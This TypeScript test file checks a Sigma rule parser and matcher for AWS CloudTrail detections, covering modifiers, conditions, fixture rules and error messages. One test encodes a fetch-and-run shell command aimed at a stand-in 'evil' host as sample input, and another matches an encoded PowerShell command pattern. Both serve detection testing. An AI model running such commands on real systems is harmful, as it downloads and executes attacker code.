import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { describe, test } from 'node:test';
import { parseSigma, type SigmaRule } from '../../../src/detect/rules/sigma.ts';
import { assertRuleRefused } from '../../helpers/rules.ts';

const FIXTURES = new URL('../../fixtures/sigma/', import.meta.url);
const fixture = (name: string): SigmaRule[] => parseSigma(readFileSync(new URL(name, FIXTURES), 'utf8'), name);

/** Lines 1–6; a detection body given to `rule` starts on line 7. */
const HEADER = 'title: test rule\nid: r-1\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n';

/** A rule from detection lines written at column 0 (indented here). */
function rule(...detection: string[]): SigmaRule {
  const [r] = parseSigma(HEADER + detection.map((l) => `  ${l}\n`).join(''), 'test.yml');
  assert.ok(r);
  return r;
}

/** A single-selection rule on one item, e.g. `field('eventName|contains', "'Trail'")`. */
function field(key: string, value: string): SigmaRule {
  return rule('selection:', `  ${key}: ${value}`, 'condition: selection');
}

function refused(text: string, message: RegExp): void {
  assertRuleRefused(parseSigma, text, message);
}

const refusedDetection = (message: RegExp, ...detection: string[]): void =>
  refused(HEADER + detection.map((l) => `  ${l}\n`).join(''), message);

describe('values and wildcards', () => {
  test('a plain string equals the whole value, case-insensitively', () => {
    const r = field('eventName', 'StopLogging');
    assert.ok(r.matches({ eventName: 'StopLogging' }));
    assert.ok(r.matches({ eventName: 'stoplogging' }));
    assert.ok(!r.matches({ eventName: 'StopLoggingNow' }));
    assert.ok(!r.matches({ eventName: 'Stop' }));
    assert.ok(!r.matches({}));
  });

  test('* is any run and ? one character', () => {
    const r = field('eventName', "'Delete*Policy?'");
    assert.ok(r.matches({ eventName: 'DeleteRolePolicyX' }));
    assert.ok(r.matches({ eventName: 'deletepolicy1' }));
    assert.ok(!r.matches({ eventName: 'DeleteRolePolicy' }));
    assert.ok(!r.matches({ eventName: 'XDeletePolicy1' }));
  });

  test('backslash escapes a wildcard and itself, and is literal elsewhere', () => {
    const star = field('requestParameters.principal', "'\\*'");
    assert.ok(star.matches({ requestParameters: { principal: '*' } }));
    assert.ok(!star.matches({ requestParameters: { principal: 'arn:aws:iam::1:root' } }));
    const path = field('p', "'C:\\Windows\\sys*'");
    assert.ok(path.matches({ p: 'C:\\Windows\\system32' }));
    const literalStar = field('p', "'C:\\Windows\\*'");
    assert.ok(literalStar.matches({ p: 'C:\\Windows*' }));
    assert.ok(!literalStar.matches({ p: 'C:\\Windows\\system32' }));
    const backslashThenAny = field('p', "'a\\\\*'");
    assert.ok(backslashThenAny.matches({ p: 'a\\anything' }));
    assert.ok(!backslashThenAny.matches({ p: 'ab' }));
    const both = field('p', "'a\\\\\\*'");
    assert.ok(both.matches({ p: 'a\\*' }));
    assert.ok(!both.matches({ p: 'a\\x' }));
    const regexChars = field('p', "'a.b(c)+'");
    assert.ok(regexChars.matches({ p: 'A.B(C)+' }));
    assert.ok(!regexChars.matches({ p: 'axb(c)+' }));
  });

  test('cased matches case-sensitively', () => {
    const r = field('eventName|cased', 'StopLogging');
    assert.ok(r.matches({ eventName: 'StopLogging' }));
    assert.ok(!r.matches({ eventName: 'stoplogging' }));
    const contains = field('userAgent|contains|cased', 'Boto3');
    assert.ok(contains.matches({ userAgent: 'x Boto3/1.2' }));
    assert.ok(!contains.matches({ userAgent: 'x boto3/1.2' }));
  });

  test('a list of values is an OR, and all makes it an AND', () => {
    const any = field('eventName', '[StopLogging, DeleteTrail]');
    assert.ok(any.matches({ eventName: 'DeleteTrail' }));
    assert.ok(!any.matches({ eventName: 'CreateTrail' }));
    const all = field('userAgent|contains|all', '[aws-cli, exec-env]');
    assert.ok(all.matches({ userAgent: 'aws-cli/2.0 exec-env/CloudShell' }));
    assert.ok(!all.matches({ userAgent: 'aws-cli/2.0' }));
  });

  test('numbers and booleans match their values and their spellings', () => {
    const n = field('apiVersion', '4738');
    assert.ok(n.matches({ apiVersion: 4738 }));
    assert.ok(n.matches({ apiVersion: '4738' }));
    assert.ok(!n.matches({ apiVersion: 4739 }));
    const b = field('readOnly', 'false');
    assert.ok(b.matches({ readOnly: false }));
    assert.ok(b.matches({ readOnly: 'False' }));
    assert.ok(!b.matches({ readOnly: true }));
  });

  test('null is a field that is absent or null; an empty string is not', () => {
    const r = field('errorCode', 'null');
    assert.ok(r.matches({}));
    assert.ok(r.matches({ errorCode: null }));
    assert.ok(!r.matches({ errorCode: '' }));
    assert.ok(!r.matches({ errorCode: 'AccessDenied' }));
    const either = field('errorCode', "[null, 'AccessDenied']");
    assert.ok(either.matches({ errorCode: 'accessdenied' }));
    assert.ok(either.matches({}));
    const empty = field('errorCode', "''");
    assert.ok(empty.matches({ errorCode: '' }));
    assert.ok(!empty.matches({}));
  });

  test('dotted paths reach into the record, and arrays mean any element', () => {
    const r = field('resources.ARN|endswith', ':trail/main');
    assert.ok(r.matches({ resources: [{ ARN: 'arn:aws:s3:::x' }, { ARN: 'arn:aws:cloudtrail:us-east-1:1:trail/main' }] }));
    assert.ok(!r.matches({ resources: [{ ARN: 'arn:aws:s3:::x' }] }));
    assert.ok(!r.matches({ resources: 'arn:aws:cloudtrail:us-east-1:1:trail/main' }), 'a string has no ARN key');
    const list = field('requestParameters.tags', 'prod');
    assert.ok(list.matches({ requestParameters: { tags: ['dev', 'PROD'] } }));
    assert.ok(!list.matches({ requestParameters: { tags: { prod: true } } }), 'a key is not a value');
  });

  test('a field holding a map is tested on every scalar inside it', () => {
    const r = field('requestParameters|contains', 'Suspended');
    assert.ok(r.matches({ requestParameters: { bucketName: 'b', VersioningConfiguration: { Status: 'Suspended' } } }));
    assert.ok(!r.matches({ requestParameters: { bucketName: 'b', VersioningConfiguration: { Status: 'Enabled' } } }));
    assert.ok(!r.matches({ requestParameters: { Suspended: true } }), 'a key is not a value');
    assert.deepEqual(r.fields, ['requestParameters'], 'the whole map is read, so the rules stage needs the raw record');
    const exact = field('requestParameters.filter', 'prod');
    assert.ok(exact.matches({ requestParameters: { filter: [{ name: 'env', values: ['PROD'] }] } }));
    assert.ok(!exact.matches({ requestParameters: { filter: [{ name: 'env', values: ['production'] }] } }));
  });

  test('all across a map may find each value in a different scalar', () => {
    const r = field('requestParameters|contains|all', `['"s3:GetObject"', corp-data]`);
    assert.ok(r.matches({ requestParameters: { policyDocument: '{"Action":["s3:GetObject"],"Resource":"arn:aws:s3:::corp-data/*"}' } }));
    assert.ok(r.matches({ requestParameters: { bucketName: 'corp-data', policyDocument: '{"Action":"s3:GetObject"}' } }));
    assert.ok(!r.matches({ requestParameters: { policyDocument: '{"Action":"s3:PutObject","Resource":"corp-data"}' } }));
  });

  test('null and exists still look at the field, not inside its map', () => {
    const absent = field('requestParameters', 'null');
    assert.ok(!absent.matches({ requestParameters: { note: null } }));
    assert.ok(absent.matches({ requestParameters: null }));
    assert.ok(absent.matches({}));
    const there = field('responseElements|exists', 'true');
    assert.ok(there.matches({ responseElements: {} }));
  });

  test('a quoted true or false matches a JSON boolean, as a YAML boolean does', () => {
    const quoted = field('responseElements.publiclyAccessible', "'true'");
    assert.ok(quoted.matches({ responseElements: { publiclyAccessible: true } }));
    assert.ok(!quoted.matches({ responseElements: { publiclyAccessible: false } }));
    const bare = field('requestParameters.setAsDefault', 'true');
    assert.ok(bare.matches({ requestParameters: { setAsDefault: true } }));
    assert.ok(bare.matches({ requestParameters: { setAsDefault: 'True' } }));
    assert.ok(!bare.matches({ requestParameters: {} }));
  });

  test("contains '*' asks for any value: an absent or null field has none", () => {
    const r = field('errorCode|contains', "'*'");
    assert.ok(r.matches({ errorCode: 'AccessDenied' }));
    assert.ok(r.matches({ errorCode: '' }));
    assert.ok(!r.matches({}));
    assert.ok(!r.matches({ errorCode: null }));
  });

  test('a * inside quoted JSON text is still a wildcard, and \\* is a star', () => {
    const doc = (action: string) => ({ requestParameters: { policyDocument: `{"Effect": "Allow", "Action": "${action}"}` } });
    const any = field('requestParameters.policyDocument|contains', `'"Action": "*"'`);
    assert.ok(any.matches(doc('*')));
    assert.ok(any.matches(doc('iam:PassRole')));
    const star = field('requestParameters.policyDocument|contains', `'"Action": "\\*"'`);
    assert.ok(star.matches(doc('*')));
    assert.ok(!star.matches(doc('iam:PassRole')));
  });

  test('a value spelled like a field name is a string, not a reference', () => {
    const r = field('userIdentity.arn|contains', 'responseElements.accessKey.userName');
    const ownKey = { userIdentity: { arn: 'arn:aws:iam::1:user/bob' }, responseElements: { accessKey: { userName: 'bob' } } };
    assert.ok(!r.matches(ownKey), 'only fieldref compares two fields');
    assert.ok(r.matches({ userIdentity: { arn: 'x/responseElements.accessKey.userName' } }));
  });
});

describe('modifiers', () => {
  test('contains, startswith, endswith', () => {
    const c = field('eventName|contains', 'Trail');
    assert.ok(c.matches({ eventName: 'DeleteTRAILNow' }));
    assert.ok(!c.matches({ eventName: 'DeleteBucket' }));
    const s = field('eventName|startswith', 'Delete');
    assert.ok(s.matches({ eventName: 'deleteTrail' }));
    assert.ok(!s.matches({ eventName: 'UndeleteTrail' }));
    const e = field('eventName|endswith', 'Trail');
    assert.ok(e.matches({ eventName: 'DeleteTrail' }));
    assert.ok(!e.matches({ eventName: 'DeleteTrails' }));
    const wild = field('eventName|startswith', 'Put*Policy');
    assert.ok(wild.matches({ eventName: 'PutRolePolicyV2' }));
  });

  test('re with its i, m and s flags, case-sensitive by default', () => {
    const r = field('userAgent|re', "'^aws-cli/[0-9]+\\.'");
    assert.ok(r.matches({ userAgent: 'aws-cli/2.15 Python' }));
    assert.ok(!r.matches({ userAgent: 'AWS-CLI/2.15' }));
    assert.ok(!r.matches({ userAgent: 'boto3 aws-cli/2.1' }));
    assert.ok(field('userAgent|re|i', "'^aws-cli/'").matches({ userAgent: 'AWS-CLI/2' }));
    const m = field('p|re|m', "'^second$'");
    assert.ok(m.matches({ p: 'first\nsecond\nthird' }));
    assert.ok(!field('p|re', "'^second$'").matches({ p: 'first\nsecond\nthird' }));
    const s = field('p|re|s', "'a.b'");
    assert.ok(s.matches({ p: 'a\nb' }));
    assert.ok(!field('p|re', "'a.b'").matches({ p: 'a\nb' }));
  });

  test('cidr for IPv4 and IPv6; a service name is no address', () => {
    const r = field('sourceIPAddress|cidr', '[10.0.0.0/8, 2001:db8::/32]');
    assert.ok(r.matches({ sourceIPAddress: '10.1.2.3' }));
    assert.ok(r.matches({ sourceIPAddress: '2001:db8::1' }));
    assert.ok(!r.matches({ sourceIPAddress: '11.0.0.1' }));
    assert.ok(!r.matches({ sourceIPAddress: '2001:db9::1' }));
    assert.ok(!r.matches({ sourceIPAddress: 'cloudtrail.amazonaws.com' }));
    assert.ok(field('sourceIPAddress|cidr', '198.51.100.7').matches({ sourceIPAddress: '198.51.100.7' }));
  });

  test('exists true and false, null counting as present', () => {
    const yes = field('requestParameters.policyDocument|exists', 'true');
    assert.ok(yes.matches({ requestParameters: { policyDocument: '{}' } }));
    assert.ok(yes.matches({ requestParameters: { policyDocument: null } }));
    assert.ok(!yes.matches({ requestParameters: {} }));
    const no = field('errorCode|exists', 'false');
    assert.ok(no.matches({ eventName: 'x' }));
    assert.ok(!no.matches({ errorCode: 'AccessDenied' }));
  });

  test('base64 and base64offset find an encoded value', () => {
    const b = field('requestParameters.userData|base64', "'#!/bin/bash'");
    assert.ok(b.matches({ requestParameters: { userData: Buffer.from('#!/bin/bash').toString('base64') } }));
    assert.ok(!b.matches({ requestParameters: { userData: Buffer.from('#!/bin/sh').toString('base64') } }));
    const off = field('requestParameters.userData|base64offset|contains', 'curl http');
    for (const prefix of ['', 'x', 'xy', 'abc ', '#!/bin/sh\n']) {
      const encoded = Buffer.from(`${prefix}curl http://evil | sh`).toString('base64');
      assert.ok(off.matches({ requestParameters: { userData: encoded } }), `prefix ${JSON.stringify(prefix)}`);
    }
    assert.ok(!off.matches({ requestParameters: { userData: Buffer.from('wget http://x').toString('base64') } }));
    const lower = Buffer.from('xcurl http://evil').toString('base64').toLowerCase();
    assert.ok(!off.matches({ requestParameters: { userData: lower } }), 'base64 is case-significant');
  });

  test('windash makes - / and the long dashes interchangeable', () => {
    const r = field('requestParameters.command|windash|contains', "' -enc '");
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      assert.ok(r.matches({ requestParameters: { command: `powershell ${dash}enc AAA` } }), dash);
    }
    assert.ok(!r.matches({ requestParameters: { command: 'powershell +enc AAA' } }));
  });

  test('gt, gte, lt, lte on numbers and numeric strings', () => {
    assert.ok(field('n|gt', '5').matches({ n: 6 }));
    assert.ok(!field('n|gt', '5').matches({ n: 5 }));
    assert.ok(field('n|gte', '5').matches({ n: '5' }));
    assert.ok(!field('n|gte', '5').matches({ n: 4.9 }));
    assert.ok(field('n|lt', '5').matches({ n: -1 }));
    assert.ok(!field('n|lt', '5').matches({ n: 'five' }));
    assert.ok(field('n|lte', '5.5').matches({ n: 5.5 }));
    assert.ok(!field('n|lte', '5.5').matches({}));
  });

  test('fieldref compares two fields of the record, cased on request', () => {
    const r = field('userIdentity.userName|fieldref', 'requestParameters.userName');
    assert.ok(r.matches({ userIdentity: { userName: 'alice' }, requestParameters: { userName: 'Alice' } }));
    assert.ok(!r.matches({ userIdentity: { userName: 'alice' }, requestParameters: { userName: 'bob' } }));
    assert.ok(!r.matches({ userIdentity: { userName: 'alice' } }));
    const cased = field('userIdentity.userName|fieldref|cased', 'requestParameters.userName');
    assert.ok(!cased.matches({ userIdentity: { userName: 'alice' }, requestParameters: { userName: 'Alice' } }));
    assert.deepEqual(r.fields, ['requestParameters.userName', 'userIdentity.userName']);
  });

  test('keywords search every value of the record, as substrings', () => {
    const r = rule('keywords:', '  - DeleteTrail', '  - StopLogging', 'condition: keywords');
    assert.ok(r.matches({ a: { b: ['x', 'arn:...:stoplogging'] } }));
    assert.ok(!r.matches({ a: 'CreateTrail' }));
    const all = rule('keywords:', "  '|all':", '    - evil', '    - bucket', 'condition: keywords');
    assert.ok(all.matches({ a: 'evil', b: { c: 'my-bucket' } }));
    assert.ok(!all.matches({ a: 'evil' }));
  });
});

describe('conditions', () => {
  const ids = ['a:', '  x: 1', 'b:', '  y: 1', 'c:', '  z: 1'];
  const rec = (x: boolean, y: boolean, z: boolean) => ({ x: x ? 1 : 0, y: y ? 1 : 0, z: z ? 1 : 0 });
  const truth = (condition: string, expected: (x: boolean, y: boolean, z: boolean) => boolean): void => {
    const r = rule(...ids, `condition: ${condition}`);
    for (const x of [false, true])
      for (const y of [false, true])
        for (const z of [false, true]) assert.equal(r.matches(rec(x, y, z)), expected(x, y, z), `${condition} on ${x} ${y} ${z}`);
  };

  test('not binds tighter than and, and tighter than or', () => {
    truth('a or b and c', (x, y, z) => x || (y && z));
    truth('a and b or c', (x, y, z) => (x && y) || z);
    truth('not a and b', (x, y) => !x && y);
    truth('not a or b', (x, y) => !x || y);
    truth('not not a', (x) => x);
  });

  test('parentheses override precedence', () => {
    truth('(a or b) and c', (x, y, z) => (x || y) && z);
    truth('not (a and b)', (x, y) => !(x && y));
    truth('a and not (b or (c))', (x, y, z) => x && !(y || z));
  });

  test('1 of, all of, them, and patterns', () => {
    const r = rule(
      'sel_a:',
      '  x: 1',
      'sel_b:',
      '  y: 1',
      'filter:',
      '  z: 1',
      '_hidden:',
      '  w: 1',
      'condition: all of sel_* and not 1 of filter*',
    );
    assert.ok(r.matches({ x: 1, y: 1 }));
    assert.ok(!r.matches({ x: 1 }));
    assert.ok(!r.matches({ x: 1, y: 1, z: 1 }));
    const one = rule('sel_a:', '  x: 1', 'sel_b:', '  y: 1', '_hidden:', '  w: 1', 'condition: 1 of them');
    assert.ok(one.matches({ y: 1 }));
    assert.ok(!one.matches({ w: 1 }), "'them' leaves out identifiers starting with _");
    const all = rule('sel_a:', '  x: 1', 'sel_b:', '  y: 1', '_hidden:', '  w: 1', 'condition: all of them');
    assert.ok(all.matches({ x: 1, y: 1 }));
    assert.ok(!all.matches({ x: 1 }));
    truth('1 of a* or all of c*', (x, _y, z) => x || z);
    truth('not 1 of them', (x, y, z) => !(x || y || z));
  });

  test('a list of maps is an OR, a map an AND', () => {
    const r = rule('selection:', '  - eventName: A', '    eventSource: s', '  - eventName: B', 'condition: selection');
    assert.ok(r.matches({ eventName: 'A', eventSource: 's' }));
    assert.ok(!r.matches({ eventName: 'A' }));
    assert.ok(r.matches({ eventName: 'B' }));
  });

  test('a negated list of prefixes leaves the calls that have none of them', () => {
    const r = rule(
      'selection:',
      '  eventSource: directconnect.amazonaws.com',
      'reads:',
      '  eventName|startswith: [Get, Describe, List]',
      'condition: selection and not reads',
    );
    assert.ok(r.matches({ eventSource: 'directconnect.amazonaws.com', eventName: 'DeleteConnection' }));
    assert.ok(!r.matches({ eventSource: 'directconnect.amazonaws.com', eventName: 'describeConnections' }));
    assert.ok(!r.matches({ eventSource: 'directconnect.amazonaws.com', eventName: 'ListTags' }));
  });

  test('a list of conditions is their OR', () => {
    const r = rule('a:', '  x: 1', 'b:', '  y: 1', 'condition:', '  - a', '  - b');
    assert.ok(r.matches({ y: 1 }));
    assert.ok(!r.matches({ z: 1 }));
  });
});

describe('fixture rules on CloudTrail records', () => {
  const base = {
    eventVersion: '1.09',
    eventTime: '2026-01-01T00:00:00Z',
    awsRegion: 'us-east-1',
    sourceIPAddress: '198.51.100.7',
    userIdentity: { type: 'IAMUser', arn: 'arn:aws:iam::123456789012:user/alice', userName: 'alice' },
    recipientAccountId: '123456789012',
  };

  test('CloudTrail logging disabled', () => {
    const [r] = fixture('cloudtrail_logging_disabled.yml');
    assert.ok(r);
    assert.equal(r.level, 'medium');
    assert.equal(r.status, 'test');
    assert.deepEqual(r.techniques, ['T1562.008']);
    assert.deepEqual(r.fields, ['eventName', 'eventSource']);
    assert.ok(r.matches({ ...base, eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' }));
    assert.ok(r.matches({ ...base, eventSource: 'cloudtrail.amazonaws.com', eventName: 'UpdateTrail' }));
    assert.ok(!r.matches({ ...base, eventSource: 'cloudtrail.amazonaws.com', eventName: 'StartLogging' }));
    assert.ok(!r.matches({ ...base, eventSource: 's3.amazonaws.com', eventName: 'DeleteTrail' }));
  });

  test('root console login without MFA, outside the internal ranges', () => {
    const [r] = fixture('root_console_login.yml');
    assert.ok(r);
    const login = {
      ...base,
      eventName: 'ConsoleLogin',
      userIdentity: { type: 'Root', arn: 'arn:aws:iam::123456789012:root' },
      responseElements: { ConsoleLogin: 'Success' },
      additionalEventData: { MFAUsed: 'No' },
    };
    assert.ok(r.matches(login));
    assert.ok(!r.matches({ ...login, additionalEventData: { MFAUsed: 'Yes' } }));
    assert.ok(!r.matches({ ...login, sourceIPAddress: '10.20.30.40' }));
    assert.ok(!r.matches({ ...login, userIdentity: { type: 'IAMUser' } }));
    assert.ok(!r.matches({ ...login, responseElements: { ConsoleLogin: 'Failure' } }));
    const why = r.explain(login);
    assert.equal(why.matched, true);
    assert.match(why.reasons[0] ?? '', /^selection matched: eventName: "ConsoleLogin" and userIdentity.type: "Root"/);
    assert.match(why.reasons[1] ?? '', /^filter_mfa did not match: additionalEventData.MFAUsed: "Yes" failed/);
    assert.equal(why.reasons.at(-1), 'condition "selection and not 1 of filter_*" is true');
    assert.equal(r.explain({ ...login, additionalEventData: { MFAUsed: 'Yes' } }).matched, false);
  });

  test('EC2 snapshot shared publicly, through the items array', () => {
    const [r] = fixture('ec2_snapshot_shared_public.yml');
    assert.ok(r);
    const share = (items: unknown[]) => ({
      ...base,
      eventSource: 'ec2.amazonaws.com',
      eventName: 'ModifySnapshotAttribute',
      requestParameters: { snapshotId: 'snap-1', attributeType: 'CREATE_VOLUME_PERMISSION', createVolumePermission: { add: { items } } },
    });
    assert.ok(r.matches(share([{ userId: '111122223333' }, { group: 'all' }])));
    assert.ok(!r.matches(share([{ userId: '111122223333' }])));
    assert.ok(!r.matches({ ...share([{ group: 'all' }]), eventName: 'DescribeSnapshotAttribute' }));
  });

  test('Lambda backdoor with 1 of selection_*', () => {
    const [r] = fixture('lambda_backdoor.yml');
    assert.ok(r);
    const lambda = { ...base, eventSource: 'lambda.amazonaws.com' };
    assert.ok(r.matches({ ...lambda, eventName: 'UpdateFunctionCode20150331v2' }));
    assert.ok(r.matches({ ...lambda, eventName: 'AddPermission20150331v2', requestParameters: { principal: '*' } }));
    assert.ok(!r.matches({ ...lambda, eventName: 'AddPermission20150331v2', requestParameters: { principal: 's3.amazonaws.com' } }));
    assert.ok(r.matches({ ...lambda, eventName: 'UpdateFunctionConfiguration20150331v2', requestParameters: { layers: ['arn:l'] } }));
    assert.ok(!r.matches({ ...lambda, eventName: 'UpdateFunctionConfiguration20150331v2', requestParameters: { timeout: 3 } }));
    assert.ok(!r.matches({ ...base, eventSource: 'ec2.amazonaws.com', eventName: 'UpdateFunctionCode20150331v2' }));
    assert.ok(!r.matches({ ...lambda, eventName: 'Invoke' }));
  });

  test('string modifiers on whole request and response maps', () => {
    const [paused, exported] = fixture('nested_request_fields.yml');
    assert.ok(paused && exported);
    const versioning = (status: string) => ({
      ...base,
      eventSource: 's3.amazonaws.com',
      eventName: 'PutBucketVersioning',
      requestParameters: { bucketName: 'ledger', VersioningConfiguration: { Status: status, MfaDelete: 'Disabled' } },
    });
    assert.ok(paused.matches(versioning('Suspended')));
    assert.ok(!paused.matches(versioning('Enabled')));
    const task = (state: string) => ({
      ...base,
      eventSource: 'ec2.amazonaws.com',
      eventName: 'CreateInstanceExportTask',
      responseElements: { exportTask: { exportTaskId: 'export-i-1', state } },
    });
    assert.ok(exported.matches(task('active')));
    assert.ok(!exported.matches(task('Failure')));
    assert.ok(!exported.matches({ ...task('active'), errorCode: 'Client.InvalidParameter' }));
    const why = exported.explain(task('Failure'));
    assert.ok(why.reasons.includes('failed_task matched: responseElements|contains: "failure"'), why.reasons.join('\n'));
  });

  test('a file with two rules gives both, in order', () => {
    const rules = fixture('iam_collection.yml');
    assert.deepEqual(
      rules.map((r) => [r.id, r.line]),
      [
        ['2d4f6a8c-0b1e-4d3f-a5c7-e9f1b3d5a705', 1],
        ['7a9c1e3f-5b7d-4f9a-b1c3-d5e7f9a1b306', 19],
      ],
    );
    const [key, login] = rules;
    assert.ok(key && login);
    const create = { ...base, eventSource: 'iam.amazonaws.com', eventName: 'CreateAccessKey' };
    assert.ok(key.matches({ ...create, requestParameters: { userName: 'bob' } }));
    assert.ok(!key.matches({ ...create, requestParameters: { userName: 'alice' } }));
    const failed = { ...base, eventName: 'ConsoleLogin', errorMessage: 'Failed authentication' };
    assert.ok(login.matches(failed));
    assert.ok(!login.matches({ ...failed, sourceIPAddress: '203.0.113.9' }));
    assert.equal(login.source, 'iam_collection.yml');
  });
});

describe('refusals name the file, the line and the feature', () => {
  test('an unknown modifier, and known ones trailwatch does not evaluate', () => {
    refusedDetection(/^bad\.yml:8: unknown modifier 'containz'$/, 'selection:', '  eventName|containz: x', 'condition: selection');
    refusedDetection(
      /^bad\.yml:8: modifier 'expand' is not supported: placeholder %admins% would take values from a Sigma processing pipeline/,
      'selection:',
      "  userIdentity.arn|expand: '%admins%'",
      'condition: selection',
    );
    refusedDetection(/^bad\.yml:8: modifier 'utf16le' is not supported/, 'selection:', '  p|utf16le|base64: x', 'condition: selection');
  });

  test('modifier combinations that mean nothing', () => {
    refusedDetection(/'re' cannot be combined with 'contains'/, 'selection:', '  p|re|contains: x', 'condition: selection');
    refusedDetection(/'i' is a flag of 're'/, 'selection:', '  p|i: x', 'condition: selection');
    refusedDetection(/'contains' and 'startswith' cannot be combined/, 'selection:', '  p|contains|startswith: x', 'condition: selection');
    refusedDetection(/'contains' before 'base64offset'/, 'selection:', '  p|contains|base64offset: x', 'condition: selection');
    refusedDetection(/'base64' of a value with wildcards/, 'selection:', "  p|base64: 'a*'", 'condition: selection');
    refusedDetection(/'all' needs a list/, 'selection:', '  p|contains|all: x', 'condition: selection');
    refusedDetection(/'exists' takes a single true or false/, 'selection:', '  p|exists: yes', 'condition: selection');
    refusedDetection(/'gt' needs a number/, 'selection:', '  p|gt: many', 'condition: selection');
    refusedDetection(/not an IPv4 or IPv6 network/, 'selection:', '  p|cidr: 10.0.0.0/33', 'condition: selection');
    refusedDetection(/not a valid regular expression/, 'selection:', "  p|re: '(unclosed'", 'condition: selection');
    refusedDetection(/null cannot be combined with modifiers/, 'selection:', '  p|contains: null', 'condition: selection');
  });

  test('bad conditions', () => {
    const sel = ['selection:', '  x: 1', 'filter:', '  y: 1'];
    refusedDetection(/^bad\.yml:11: condition "selection and": condition ends/, ...sel, 'condition: selection and');
    refusedDetection(/unknown search identifier 'selektion'/, ...sel, 'condition: selektion');
    refusedDetection(/expected '\)'/, ...sel, 'condition: (selection or filter');
    refusedDetection(/unexpected '\)'/, ...sel, 'condition: selection)');
    refusedDetection(/unexpected 'filter'/, ...sel, 'condition: selection filter');
    refusedDetection(
      /aggregation '\| count\(\) by userIdentity\.arn > 5' is not supported: Sigma 2\.0 dropped aggregations for correlation rules/,
      ...sel,
      'condition: selection | count() by userIdentity.arn > 5',
    );
    refusedDetection(/'near' is not supported: Sigma 2\.0 dropped it/, ...sel, 'condition: selection near filter');
    refusedDetection(/'near' is not supported: Sigma 2\.0 dropped it/, ...sel, 'condition: selection | near filter');
    refusedDetection(/'2 of' is not supported/, ...sel, 'condition: 2 of them');
    refusedDetection(/'nope\*' matches no search identifier/, ...sel, 'condition: 1 of nope*');
    refusedDetection(/wildcard 'sel\*' is only allowed after/, ...sel, 'condition: sel*');
    refusedDetection(/^bad\.yml:11: 'timeframe' is not supported/, ...sel, 'timeframe: 5m', 'condition: selection');
    refusedDetection(/has no 'condition'/, ...sel);
  });

  test("'timeframe' beside the detection is refused too, after an aggregation", () => {
    const body = `${HEADER}  s:\n    x: 1\n`;
    refused(`${body}  condition: s\ntimeframe: 10m\n`, /^bad\.yml:10: 'timeframe' is not supported: it windows the aggregations/);
    refused(`${body}  condition: s | count() > 3\ntimeframe: 10m\n`, /^bad\.yml:9: condition "s \| count\(\) > 3": aggregation/);
  });

  test('bad YAML gives its line', () => {
    refused(`${HEADER}  selection:\n    eventName: [a, b\n  condition: selection\n`, /^bad\.yml:9: invalid YAML: /);
    refused('title: a\nid: b\ntitle: c\n', /^bad\.yml:3: invalid YAML: Map keys must be unique/);
    refused(`${HEADER}  selection: &s\n    x: 1\n  other: *s\n  condition: selection\n`, /^bad\.yml:9: YAML aliases are not supported/);
  });

  test('a logsource other than aws/cloudtrail', () => {
    const windows =
      'title: t\nid: w\nlogsource:\n  product: windows\n  service: security\ndetection:\n  s:\n    EventID: 1\n  condition: s\n';
    refused(windows, /^bad\.yml:4: logsource \(product: windows, service: security\) is not 'product: aws, service: cloudtrail'/);
    refused(
      windows.replace('  product: windows\n', '  product: aws\n  category: process_creation\n'),
      /logsource 'category' is not supported/,
    );
    refused(windows.replace(/logsource:\n.*\n.*\n/, ''), /^bad\.yml:1: rule has no 'logsource'/);
  });

  test('rule documents that are not single-event detection rules', () => {
    refused('action: global\ntitle: t\n', /^bad\.yml:1: rule collections .* are not supported/);
    refused(
      `${HEADER}  s:\n    x: 1\n  condition: s\n---\ntitle: c\nid: c1\ncorrelation:\n  type: event_count\n`,
      /^bad\.yml:13: correlation rules are not supported yet/,
    );
    refused(`id: x\n${HEADER.slice('title: test rule\nid: r-1\n'.length)}  s:\n    x: 1\n  condition: s\n`, /has no 'title'/);
    refused(HEADER.replace('id: r-1\n', ''), /has no 'id'/);
    refused(`${HEADER}  s:\n    x: 1\n  condition: s\n---\n${HEADER}  s:\n    x: 1\n  condition: s\n`, /rule id 'r-1' appears twice/);
    refused(`${HEADER}  s:\n    x: 1\n  condition: s\nlevel: severe\n`, /^bad\.yml:10: level 'severe' is not one of/);
    refused('', /^bad\.yml:1: no Sigma rule in this file/);
  });
});
